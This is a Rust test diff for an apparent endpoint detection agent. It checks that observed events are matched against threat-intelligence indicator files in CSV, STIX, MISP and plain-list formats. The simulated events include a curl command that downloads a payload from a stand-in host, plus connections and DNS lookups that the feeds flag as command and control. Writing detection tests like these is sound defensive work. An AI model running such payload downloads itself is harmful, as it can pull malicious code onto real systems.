@@ -11,6 +11,7 @@ use std::time::{Duration, Instant};
 
 use agent::clock::WallClock;
 use agent::governor::{Budget, Governor};
+use agent::indicator_book::IndicatorBook;
 use agent::judge::Judge;
 use agent::options::OutputTarget;
 use agent::output::Output;
@@ -61,6 +62,15 @@ fn exit(process: ProcessKey, wait_status: u32) -> Observation {
 
 /// Runs the pipeline over the observations, each a microsecond after the one before, and gives what it wrote.
 fn replay(observations: Vec<Observation>, rules: &[&str], before: Option<Before>) -> Vec<Json> {
+    replay_with(observations, rules, before, Arc::default())
+}
+
+fn replay_with(
+    observations: Vec<Observation>,
+    rules: &[&str],
+    before: Option<Before>,
+    indicators: Arc<IndicatorBook>,
+) -> Vec<Json> {
     let dir = tempfile::tempdir().unwrap();
     for (number, rule) in rules.iter().enumerate() {
         fs::write(dir.path().join(format!("{number}.json")), rule).unwrap();
@@ -80,11 +90,13 @@ fn replay(observations: Vec<Observation>, rules: &[&str], before: Option<Before>
         sensor,
         queue: observation_queue(1).1,
         content: sensor_linux::ContentFeed::default(),
+        scans: agent::scanner::ScanFeed::default(),
         boot_id: BOOT,
         clock: Arc::clone(&clock),
         table: ProcessTable::default(),
         recorder: Recorder::new(HOST, BOOT, clock, Resume::default(), None, Some(output)),
         rules: Arc::new(RuleBook::open(Some(dir.path().to_owned()))),
+        indicators,
         blocked_hashes: HashSet::new(),
         before,
         governor: Governor::new(Budget::default()),
@@ -319,4 +331,97 @@ fn what_a_process_does_carries_who_and_to_whom_and_is_judged() {
     assert_eq!(detections.len(), 1);
     assert_eq!(detections[0]["rule"]["id"], "9");
     assert_eq!(detections[0]["rampart"]["detection"]["ancestry"][1]["executable"], "/bin/sh");
+}
+
+/// Runs the pipeline over what was observed, with these files of indicators.
+fn replay_with_indicators(observations: Vec<Observation>, files: &[(&str, &str)]) -> Vec<Json> {
+    let dir = tempfile::tempdir().unwrap();
+    let folder = dir.path().join("indicators");
+    fs::create_dir(&folder).unwrap();
+    files.iter().for_each(|(name, text)| fs::write(folder.join(name), text).unwrap());
+    let book = IndicatorBook::open(Some(dir.path()), &dir.path().join("state"));
+    assert!(book.active().errors.is_empty(), "{:?}", book.active().errors);
+    replay_with(observations, &[], None, Arc::new(book))
+}
+
+/// Rule id and matched lines of each detection.
+fn detections(records: &[Json]) -> Vec<(String, Vec<String>)> {
+    let detections = records.iter().filter(|record| event_type(record) == "detection");
+    let texts = |lines: &Json| -> Vec<String> {
+        lines.as_array().unwrap().iter().map(|line| line.as_str().unwrap().to_owned()).collect()
+    };
+    detections
+        .map(|record| {
+            let matched = texts(&record["rampart"]["detection"]["matched"]);
+            (record["rule"]["id"].as_str().unwrap().to_owned(), matched)
+        })
+        .collect()
+}
+
+fn did(actor: ProcessKey, event_type: EventType, fields: &[(Field, &str)]) -> Observation {
+    let fields = fields.iter().map(|(field, text)| (*field, Value::Text((*text).to_owned()))).collect();
+    let actor = Some(Actor::Life(actor));
+    Observation::Activity(Box::new(ObservedActivity { event_type, actor, target: None, fields }))
+}
+
+#[test]
+fn what_an_event_tells_is_looked_up_among_the_indicators_of_every_kind() {
+    let client = key(2, 10);
+    let connect = |address| did(client, EventType::NetworkConnect, &[(Field::DestinationAddress, address)]);
+    let answers = Observation::Activity(Box::new(ObservedActivity {
+        event_type: EventType::DnsQuery,
+        actor: Some(Actor::Life(client)),
+        target: None,
+        fields: vec![
+            (Field::DnsName, Value::Text("harmless.example".to_owned())),
+            (Field::DnsAnswers, Value::TextList(vec!["cdn.evil.example".into(), "203.0.113.9".into()])),
+        ],
+    }));
+    let seen = vec![
+        exec(client, SHELL, &["/usr/bin/curl", "-o", "x", "https://shop.example/payload?v=2"]),
+        connect("203.0.113.77"),
+        connect("198.51.100.9"),
+        did(client, EventType::DnsQuery, &[(Field::DnsName, "a.b.evil.example")]),
+        did(client, EventType::DnsQuery, &[(Field::DnsName, "notevil.example")]),
+        answers,
+        did(client, EventType::FileCreate, &[(Field::FilePath, "/tmp/.x/run")]),
+        did(client, EventType::FileModify, &[(Field::FileSha256, &"ab".repeat(32))]),
+        did(client, EventType::NetworkConnect, &[(Field::DestinationAddress, "192.0.2.66")]),
+    ];
+    let csv = "value,severity,confidence,description,expires\n\
+        203.0.113.0/24,high,90,command and control,2100-01-01T00:00:00Z\n\
+        192.0.2.66,high,90,was bad once,2020-01-01T00:00:00Z\n";
+    let stix = r#"{"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [{
+        "type": "indicator", "spec_version": "2.1", "id": "indicator--5d0092c5-5f74-4287-9642-33f4c354e56d",
+        "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "pattern_type": "stix",
+        "pattern": "[domain-name:value = 'evil.example']", "valid_from": "2026-01-01T00:00:00Z"}]}"#;
+    let misp = r#"{"Event": {"info": "campaign", "Attribute": [
+        {"type": "url", "category": "Network activity", "value": "https://shop.example/payload?v=2", "to_ids": true}]}}"#;
+    let list = format!("/tmp/.x/run\n{}\n", "ab".repeat(32));
+    let files = [("feed.csv", csv), ("cti.json", stix), ("misp.json", misp), ("list.txt", list.as_str())];
+    let records = replay_with_indicators(seen, &files);
+    let found = detections(&records);
+    let ids: Vec<&str> = found.iter().map(|(id, _)| id.as_str()).collect();
+    let sha256 = format!("indicator.sha256.{}", "ab".repeat(32));
+    assert_eq!(
+        ids,
+        [
+            "indicator.url.shop.example/payload?v=2",
+            "indicator.ip.203.0.113.0/24",
+            "indicator.domain.evil.example",
+            "indicator.domain.evil.example",
+            "indicator.ip.203.0.113.0/24",
+            "indicator.path./tmp/.x/run",
+            sha256.as_str(),
+        ],
+        "{found:#?}"
+    );
+    assert_eq!(
+        found[1].1,
+        ["destination.ip = 203.0.113.77 (indicator ip 203.0.113.0/24, source feed, confidence 90)"]
+    );
+    let alert = records.iter().find(|record| record["rule"]["id"] == ids[1]).unwrap();
+    assert_eq!(alert["rampart"]["rule"]["severity"], "high");
+    assert_eq!(alert["rampart"]["detection"]["ancestry"][0]["executable"], "/usr/bin/curl");
+    assert!(alert["rule"]["description"].as_str().unwrap().starts_with("command and control"), "{alert}");
 }
